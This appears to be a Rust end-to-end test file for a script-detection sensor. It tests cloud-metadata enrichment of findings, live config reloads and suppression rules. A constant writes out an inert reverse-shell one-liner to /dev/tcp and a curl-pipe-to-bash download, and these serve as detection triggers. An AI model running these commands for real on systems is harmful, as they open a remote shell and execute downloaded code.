//! What the operator and the cloud say of a node: the configuration file, its reload, and the metadata server.

use std::{fs, net::TcpListener, process::Command};

use e2e::{daemon::bin, metadata, node::Node, shell};

/// Malicious by any model, and inert: `:` runs instead.
const ATTACK: &str = ": || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/x | bash";

const ENTRIES: [(&str, &str); 7] = [
    ("project/project-id", "acme-prod"),
    ("project/numeric-project-id", "123456789"),
    ("instance/zone", "projects/123456789/zones/europe-west4-b"),
    ("instance/name", "gke-main-pool-1-abcd"),
    ("instance/id", "987654321"),
    ("instance/attributes/cluster-name", "main"),
    ("instance/attributes/cluster-location", "europe-west4"),
];

#[test]
fn the_metadata_server_names_project_and_cluster() {
    let server = metadata::serve("127.0.0.1:0", &ENTRIES);
    let host = server.address.to_string();
    let node = Node::start_with(&["--node", "n1"], &[("GCE_METADATA_HOST", &host)]).expect("a node");
    shell::run("/bin/bash", &["-c", ATTACK]).expect("a shell");
    let findings = node.wait_for(|all| !all.is_empty()).expect("a finding");
    let finding = &findings[0];
    let name = finding["name"].as_str().expect("a name");
    assert!(name.starts_with("projects/acme-prod/sources/scriptwatch/locations/global/findings/"), "{name}");
    assert_eq!(
        finding["resourceName"],
        "//container.googleapis.com/projects/acme-prod/locations/europe-west4/clusters/main"
    );
    assert_eq!(
        finding["kubernetes"]["nodes"][0]["name"],
        "//compute.googleapis.com/projects/acme-prod/zones/europe-west4-b/instances/gke-main-pool-1-abcd"
    );
    let properties = &finding["sourceProperties"];
    for (key, value) in [
        ("VM_Instance_Name", "gke-main-pool-1-abcd"),
        ("VM_Instance_Id", "987654321"),
        ("Node_Name", "n1"),
        ("Project_Number", "123456789"),
        ("Cluster_Name", "main"),
    ] {
        assert_eq!(properties[key], value, "{key}");
    }
}

#[test]
fn a_metadata_server_that_comes_late_holds_nothing_up_and_completes_what_went_out() {
    // A port where nobody listens yet.
    let address = TcpListener::bind("127.0.0.1:0").and_then(|l| l.local_addr()).expect("a port").to_string();
    let node = Node::start_with(&["--enrichment-timeout", "100ms"], &[("GCE_METADATA_HOST", &address)])
        .expect("a node");
    shell::run("/bin/bash", &["-c", ATTACK]).expect("a shell");
    let findings = node.wait_for(|all| !all.is_empty()).expect("a finding");
    let name = findings[0]["name"].clone();
    assert!(name.as_str().expect("a name").starts_with("projects/-/"), "{name}");
    let _server = metadata::serve(&address, &ENTRIES);
    let findings = node
        .wait_for(|all| all.iter().any(|f| f["sourceProperties"]["Cluster_Name"] == "main"))
        .expect("a completed finding");
    assert_eq!(findings.len(), 1, "it is the same finding: {findings:#?}");
    assert_eq!(findings[0]["name"], name, "under the same name");
    shell::run("/bin/bash", &["-c", &format!("{ATTACK} #")]).expect("a shell");
    let findings = node.wait_for(|all| all.len() == 2).expect("another finding");
    assert!(
        findings.iter().any(|f| f["name"].as_str().is_some_and(|n| n.starts_with("projects/acme-prod/")))
    );
}

#[test]
fn the_threshold_and_the_suppressions_can_change_without_a_restart() {
    let dir = tempfile::tempdir().expect("a directory");
    let (config, rules) = (dir.path().join("sensor.toml"), dir.path().join("rules.toml"));
    let write = |threshold: &str, rule: &str| {
        fs::write(&rules, rule).expect("rules");
        let text = format!("threshold = {threshold}\nsuppressions = \"{}\"\n", rules.display());
        fs::write(&config, text).expect("a configuration");
    };
    write("1.0", "");
    let mut node = Node::start(&["--config", config.to_str().expect("a path")]).expect("a node");
    let attack = |number: usize| {
        shell::run("/bin/bash", &["-c", &format!("{ATTACK} # {number}")]).expect("a shell");
    };
    attack(1);
    node.wait_for_reading("captures_scored_total", 1).expect("a verdict");
    write("0.01", "");
    node.reload("configuration read again").expect("a reload");
    attack(2);
    let findings = node.wait_for(|all| !all.is_empty()).expect("a finding");
    assert_eq!(findings.len(), 1, "the first was judged by the old threshold");
    // A mistake changes nothing, and is told.
    write("7", "");
    node.reload("a number from 0 to 1 is expected").expect("a refusal");
    attack(3);
    node.wait_for(|all| all.len() == 2).expect("another finding");
    write(
        "0.01",
        "[[suppress]]\npath = \"/x\"\nreason = \"y\"\n[[suppress]]\nsha256 = \"HASH\"\nreason = \"z\"\n",
    );
    node.reload("rule 2: sha256").expect("a refusal");
    let hash = e2e::outcome::sha256(format!("{ATTACK} # 4").as_bytes());
    write("0.01", &format!("[[suppress]]\nsha256 = \"{hash}\"\nreason = \"z\"\n"));
    node.reload("configuration read again").expect("a reload");
    attack(4);
    node.wait_for_reading("detections_suppressed_total", 1).expect("a suppression");
    let outcome = node.finish().expect("an outcome");
    assert_eq!(outcome.findings.len(), 2);
}

#[test]
fn a_configuration_can_be_checked_before_it_is_used() {
    let dir = tempfile::tempdir().expect("a directory");
    let path = dir.path().join("sensor.toml");
    let check = |text: &str, env: &[(&str, &str)]| {
        fs::write(&path, text).expect("a file");
        let output = Command::new(bin().join("sensor"))
            .args(["config", "check", "--config"])
            .arg(&path)
            .envs(env.iter().copied())
            .output()
            .expect("the sensor");
        (
            output.status.success(),
            String::from_utf8_lossy(&output.stdout).into_owned(),
            String::from_utf8_lossy(&output.stderr).into_owned(),
        )
    };
    let (good, out, _) = check("operating_point = \"strict\"\nenrichment_timeout = \"500ms\"\n", &[]);
    assert!(good && out.ends_with("sensor.toml: ok\n"), "{out}");
    let (good, _, err) = check("operating_pont = \"strict\"\n", &[]);
    assert!(!good && err.contains("operating_pont: unknown key; known are"), "{err}");
    let (good, _, err) = check("suppressions = \"/nowhere\"\n", &[]);
    assert!(!good && err.contains("suppressions /nowhere"), "{err}");
    // The environment goes before the file, so what the file says is not looked at by the run, but by the check.
    let (good, _, err) = check("threshold = 0.5\n", &[("SCRIPTWATCH_SENSOR_THRESHOLD", "2")]);
    assert!(!good && err.contains("a number from 0 to 1"), "{err}");
}
